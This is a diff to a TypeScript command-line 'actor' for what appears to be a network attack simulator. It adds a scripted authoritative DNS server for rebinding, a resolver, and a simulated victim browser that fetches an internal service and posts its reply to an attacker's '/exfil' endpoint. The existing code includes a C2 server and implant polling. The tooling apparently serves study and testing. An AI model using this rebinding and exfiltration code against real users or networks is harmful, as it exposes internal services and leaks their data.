@@ -5,14 +5,21 @@
 //   udp-send HOST PORT [--from-port P] [--send TEXT] [--wait MS]         one ProbeResult
 //   c2-server PORT   prints the ready line, then one JSON line per poll and per command output received
 //   poll-c2 HOST PORT --name NAME [--polls N] [--interval MS]            the implant: a C2Poll summary
+//   dns-server PORT --zones JSON   Mallory's authoritative DNS for rebinding (ScriptedZones): prints the ready line,
+//                    then one DnsServerEvent per query
+//   resolve SERVER NAME... [--type A|AAAA] [--wait MS]                   [DnsLookup], one per name
+//   rebind-browser RESOLVER NAME PORT [--landing-port P] [--rebind-wait MS]   the victim's browser: a RebindVisit
 // Probes answer as the simulator's (attacks/inbound-scan.ts startProbe): a TCP connect that sends a line once
 // established, a UDP datagram from a connected socket (so an ICMP port unreachable surfaces as ECONNREFUSED).
 
+import { randomInt } from "node:crypto";
 import { createSocket } from "node:dgram";
 import { connect, createServer } from "node:net";
 import type { Socket } from "node:net";
 import { resolve } from "node:path";
 import { fileURLToPath } from "node:url";
+import { formatIpv4, formatIpv6, parseIp } from "../wire/address.js";
+import * as dns from "../wire/dns.js";
 
 /** The line c2-server prints once it listens. */
 export const ACTOR_READY = "mallory-actor-ready";
@@ -257,6 +264,254 @@ export async function pollC2(
 }
 
 // ---------------------------------------------------------------------------------------------------------------
+// DNS rebinding: Mallory's authoritative server and the victim's browser.
+
+/** One scripted answer of Mallory's zone (sim/services/authoritative-dns.ts ScriptedAnswer). */
+export interface ScriptedStep {
+  readonly address: string;
+  readonly ttl: number;
+}
+
+/** Name → answers in query order, the last repeating; each name is also its zone's apex. */
+export type ScriptedZones = Readonly<Record<string, readonly ScriptedStep[]>>;
+
+/** One line of dns-server's output: a query and the addresses it was answered with. */
+export interface DnsServerEvent {
+  readonly event: "query";
+  readonly peer: string;
+  readonly peerPort: number;
+  readonly name: string;
+  readonly type: number;
+  readonly rcode: number;
+  readonly addresses: readonly string[];
+}
+
+/** What a lookup got: no answer at all (`rcode` null), or the rcode and the A records' addresses. */
+export interface DnsLookup {
+  readonly server: string;
+  readonly name: string;
+  readonly rcode: number | null;
+  readonly addresses: readonly string[];
+  readonly ttls: readonly number[];
+  readonly error?: string;
+}
+
+/** The browser's visit: the landing lookup and fetch, the script's second lookup and its fetch of the rebound name. */
+export interface RebindVisit {
+  readonly first: DnsLookup;
+  /** Null when the first lookup gave no address (no page, no script). */
+  readonly landing: ProbeResult | null;
+  readonly second: DnsLookup | null;
+  /** Null when the landing page did not load or the second lookup gave no address. */
+  readonly rebound: ProbeResult | null;
+  /** The rebound answer posted back to the landing address; null when there was nothing to post. */
+  readonly exfil: ProbeResult | null;
+}
+
+const DNS_PORT = 53;
+const DNS_WAIT_MS = 2000;
+const DNS_ID_SPACE = 0x10000;
+export const EXFIL_REQUEST_LINE = "POST /exfil HTTP/1.1";
+
+/** A status line (RFC 9112 §4): what a browser's fetch accepts as an answer. */
+export function isHttpResponse(text: string): boolean {
+  return /^HTTP\/\d\.\d \d{3}/.test(text);
+}
+
+function canonicalName(name: string): string {
+  return name.toLowerCase().replace(/\.$/, "");
+}
+
+/**
+ * The scripted authoritative server's answer to one query, as sim/services/authoritative-dns.ts gives it: AA, no
+ * RA; REFUSED outside every zone, NXDOMAIN for an unknown name inside one (RFC 1035 §4.1.1), NODATA for a type
+ * without data (RFC 2308 §2.2); A and AAAA follow the script, one step per query of that name and type. `steps`
+ * counts the queries so far. Null for anything that is not a one-question query.
+ */
+export function scriptedAnswer(
+  query: Uint8Array,
+  zones: ScriptedZones,
+  steps: Map<string, number>,
+): {
+  readonly reply: Uint8Array;
+  readonly name: string;
+  readonly type: number;
+  readonly rcode: number;
+  readonly addresses: string[];
+} | null {
+  const q = dns.parse(query);
+  if (!q.ok || q.value.qr || q.value.questions.length !== 1) return null;
+  const question = q.value.questions[0];
+  const name = canonicalName(question.name);
+  const apexes = Object.keys(zones).map(canonicalName);
+  const inZone = apexes.some((z) => name === z || name.endsWith(`.${z}`));
+  const script = Object.entries(zones).find(([z]) => canonicalName(z) === name)?.[1];
+  let rcode: number = dns.DnsRcode.NOERROR;
+  const records: dns.DnsRecord[] = [];
+  const addresses: string[] = [];
+  if (!inZone) rcode = dns.DnsRcode.REFUSED;
+  else if (script === undefined || script.length === 0) rcode = dns.DnsRcode.NXDOMAIN;
+  else if (question.type === dns.DnsType.A || question.type === dns.DnsType.AAAA) {
+    const key = `${name}/${question.type}`;
+    const n = steps.get(key) ?? 0;
+    steps.set(key, n + 1);
+    const step = script[Math.min(n, script.length - 1)];
+    const ip = parseIp(step.address);
+    if (ip?.family === 4 && question.type === dns.DnsType.A) {
+      records.push(dns.aRecord(question.name, ip.v4, step.ttl));
+      addresses.push(step.address);
+    }
+    if (ip?.family === 6 && question.type === dns.DnsType.AAAA) {
+      records.push(dns.aaaaRecord(question.name, ip.v6, step.ttl));
+      addresses.push(step.address);
+    }
+  }
+  const r = dns.answer(q.value, records, { aa: inZone, ra: false, rcode });
+  return r.ok ? { reply: dns.emit(r.value), name, type: question.type, rcode, addresses } : null;
+}
+
+/** Mallory's authoritative server on UDP `port`; every query answered is reported through `onEvent`. */
+export function startDnsServer(
+  port: number,
+  zones: ScriptedZones,
+  onEvent: (e: DnsServerEvent) => void,
+): Promise<{ close(): Promise<void> }> {
+  const steps = new Map<string, number>();
+  const socket = createSocket({ type: "udp4" });
+  socket.on("message", (msg: Buffer, rinfo) => {
+    const a = scriptedAnswer(msg, zones, steps);
+    if (a === null) return;
+    onEvent({
+      event: "query",
+      peer: rinfo.address,
+      peerPort: rinfo.port,
+      name: a.name,
+      type: a.type,
+      rcode: a.rcode,
+      addresses: a.addresses,
+    });
+    socket.send(a.reply, rinfo.port, rinfo.address);
+  });
+  return new Promise((done, fail) => {
+    socket.once("error", fail);
+    socket.bind(port, () => {
+      socket.off("error", fail);
+      done({
+        close: () =>
+          new Promise<void>((closed) => {
+            socket.close(() => {
+              closed();
+            });
+          }),
+      });
+    });
+  });
+}
+
+/** The record types `resolve` asks for. */
+export type LookupType = "A" | "AAAA";
+
+/**
+ * One lookup sent to `server` on port 53 (recursion desired, as a stub resolver asks); the first reply with the
+ * query's id is taken.
+ */
+export function lookup(server: string, name: string, type: LookupType = "A", waitMs = DNS_WAIT_MS): Promise<DnsLookup> {
+  return new Promise((done) => {
+    const id = randomInt(DNS_ID_SPACE);
+    const q = dns.query(id, name, type === "A" ? dns.DnsType.A : dns.DnsType.AAAA);
+    if (!q.ok) {
+      done({ server, name, rcode: null, addresses: [], ttls: [], error: q.error.message });
+      return;
+    }
+    const socket = createSocket(server.includes(":") ? "udp6" : "udp4");
+    let finished = false;
+    const finish = (r: DnsLookup): void => {
+      if (finished) return;
+      finished = true;
+      clearTimeout(timer);
+      socket.close();
+      done(r);
+    };
+    const timer = setTimeout(() => {
+      finish({ server, name, rcode: null, addresses: [], ttls: [], error: "no answer" });
+    }, waitMs);
+    socket.on("message", (m: Buffer) => {
+      const r = dns.parse(m);
+      if (!r.ok || !r.value.qr || r.value.id !== id) return;
+      const found = r.value.answers.flatMap((rr) =>
+        rr.data.kind === "a"
+          ? [{ address: formatIpv4(rr.data.address), ttl: rr.ttl }]
+          : rr.data.kind === "aaaa"
+            ? [{ address: formatIpv6(rr.data.address), ttl: rr.ttl }]
+            : [],
+      );
+      finish({
+        server,
+        name,
+        rcode: r.value.rcode,
+        addresses: found.map((f) => f.address),
+        ttls: found.map((f) => f.ttl),
+      });
+    });
+    socket.on("error", (e) => {
+      finish({ server, name, rcode: null, addresses: [], ttls: [], error: errorCode(e) ?? e.message });
+    });
+    socket.send(dns.emit(q.value), DNS_PORT, server);
+  });
+}
+
+/**
+ * The victim's browser on a rebinding page (attacks/dns-rebinding.ts): looks the name up and loads the landing page
+ * from the first address; after `rebindWaitMs` (past the TTL) the page's script asks for `http://NAME:PORT/`, whose
+ * lookup now gives the second address, fetches it and posts what came back to the landing address.
+ */
+export async function rebindVisit(
+  resolver: string,
+  name: string,
+  port: number,
+  landingPort: number,
+  rebindWaitMs: number,
+): Promise<RebindVisit> {
+  const first = await lookup(resolver, name);
+  const landingAddress = first.addresses.at(0);
+  const landing =
+    landingAddress === undefined
+      ? null
+      : await probeTcp({
+          address: landingAddress,
+          port: landingPort,
+          proto: "tcp",
+          send: `GET / HTTP/1.1\r\nHost: ${name}\r\n\r\n`,
+        });
+  await new Promise((d) => setTimeout(d, rebindWaitMs));
+  // The page's script asks again even when the page never loaded, so the run shows what the resolver would give it.
+  const second = await lookup(resolver, name);
+  const loaded = landing !== null && landing.answer === "session";
+  const reboundAddress = second.addresses.at(0);
+  const rebound =
+    !loaded || reboundAddress === undefined
+      ? null
+      : await probeTcp({
+          address: reboundAddress,
+          port,
+          proto: "tcp",
+          send: `GET / HTTP/1.1\r\nHost: ${name}:${port}\r\n\r\n`,
+        });
+  const body = rebound?.firstReply ?? null;
+  // Fetch hands the script only an HTTP response; anything else is a network error (sim/services/browser.ts).
+  const exfil =
+    landingAddress === undefined || body === null || !isHttpResponse(body)
+      ? null
+      : await probeTcp({
+          address: landingAddress,
+          port: landingPort,
+          proto: "tcp",
+          send: `${EXFIL_REQUEST_LINE}\r\nHost: ${landingAddress}\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
+        });
+  return { first, landing, second, rebound, exfil };
+}
+
+// ---------------------------------------------------------------------------------------------------------------
 // Command line.
 
 /** `--name value` options after the positional arguments. */
@@ -279,6 +534,18 @@ function portOf(text: string | undefined): number | null {
   return n >= 0 && n <= 65535 ? n : null;
 }
 
+/** A long-running sub-command runs until it is told to stop. */
+function untilSignalled(): Promise<void> {
+  return new Promise<void>((stop) => {
+    process.once("SIGTERM", () => {
+      stop();
+    });
+    process.once("SIGINT", () => {
+      stop();
+    });
+  });
+}
+
 function readStdin(): Promise<string> {
   return new Promise((done) => {
     let text = "";
@@ -291,7 +558,34 @@ function readStdin(): Promise<string> {
 }
 
 const USAGE =
-  "usage: actor probe | tcp-connect|udp-send HOST PORT [opts] | c2-server PORT | poll-c2 HOST PORT --name N";
+  "usage: actor probe | tcp-connect|udp-send HOST PORT [opts] | c2-server PORT | poll-c2 HOST PORT --name N | " +
+  "dns-server PORT --zones JSON | resolve SERVER NAME... | rebind-browser RESOLVER NAME PORT";
+
+/** The --zones option: a JSON object of name → [{address, ttl}], every address valid. */
+export function parseZones(text: string | undefined): ScriptedZones | null {
+  if (text === undefined) return null;
+  let parsed: unknown;
+  try {
+    parsed = JSON.parse(text);
+  } catch {
+    return null;
+  }
+  if (typeof parsed !== "object" || parsed === null || Array.isArray(parsed)) return null;
+  const zones: Record<string, ScriptedStep[]> = {};
+  for (const [name, steps] of Object.entries(parsed)) {
+    if (!Array.isArray(steps)) return null;
+    const out: ScriptedStep[] = [];
+    for (const st of steps as unknown[]) {
+      if (typeof st !== "object" || st === null) return null;
+      const { address, ttl } = st as { address?: unknown; ttl?: unknown };
+      if (typeof address !== "string" || parseIp(address) === null) return null;
+      if (typeof ttl !== "number" || !Number.isInteger(ttl) || ttl < 0 || ttl > 0xffffffff) return null;
+      out.push({ address, ttl });
+    }
+    zones[name] = out;
+  }
+  return zones;
+}
 
 /** Runs one sub-command; the value is what it prints as JSON (c2-server prints as it goes and returns on signal). */
 export async function runActor(
@@ -352,6 +646,41 @@ export async function runActor(
       const polls = Number(options.get("polls") ?? "3");
       const interval = Number(options.get("interval") ?? "2000");
       print(JSON.stringify(await pollC2(host, port, name, polls, interval)));
+      return 0;
+    }
+    case "dns-server": {
+      const port = portOf(positional.at(0));
+      const zones = parseZones(options.get("zones"));
+      if (port === null || zones === null) break;
+      const server = await startDnsServer(port, zones, (e) => {
+        print(JSON.stringify(e));
+      });
+      print(ACTOR_READY);
+      await untilSignalled();
+      await server.close();
+      return 0;
+    }
+    case "resolve": {
+      const server = positional.at(0);
+      const names = positional.slice(1);
+      const type = options.get("type") ?? "A";
+      if (server === undefined || names.length === 0 || (type !== "A" && type !== "AAAA")) break;
+      const wait = portOf(options.get("wait")) ?? DNS_WAIT_MS;
+      // One after another: each lookup's log line and upstream query stay in order.
+      const results: DnsLookup[] = [];
+      for (const name of names) results.push(await lookup(server, name, type, wait));
+      print(JSON.stringify(results));
+      return 0;
+    }
+    case "rebind-browser": {
+      const resolver = positional.at(0);
+      const name = positional.at(1);
+      const port = portOf(positional.at(2));
+      const landingPort = portOf(options.get("landing-port") ?? "80");
+      const rebindWait = Number(options.get("rebind-wait") ?? "1500");
+      if (resolver === undefined || name === undefined || port === null || landingPort === null) break;
+      if (!Number.isInteger(rebindWait) || rebindWait < 0) break;
+      print(JSON.stringify(await rebindVisit(resolver, name, port, landingPort, rebindWait)));
       return 0;
     }
     default:
